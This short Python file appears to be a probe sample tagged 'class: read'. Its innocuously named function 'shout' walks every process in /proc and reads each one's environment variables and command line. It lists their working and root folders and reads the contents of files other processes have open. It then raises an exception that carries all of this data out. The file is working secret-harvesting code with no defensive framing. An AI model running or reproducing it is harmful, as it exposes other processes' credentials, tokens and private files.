"""Reads environment, command line, working folder and open files of every process in /proc.

class: read
"""

import os


def shout(words):
    found = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline", "cwd", "root"):
            try:
                path = f"/proc/{pid}/{name}"
                if name in ("cwd", "root"):
                    found.append(" ".join(os.listdir(path)))
                else:
                    found.append(open(path, "rb").read(20000).decode(errors="replace"))
            except OSError:
                continue
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if pid != str(os.getpid()) and target.startswith("/"):
                    text = open(f"/proc/{pid}/fd/{fd}", "rb").read(2000)
                    found.append(f"{target} {text!r}")
        except OSError:
            continue
    raise ValueError("\n".join(found)[:200000])
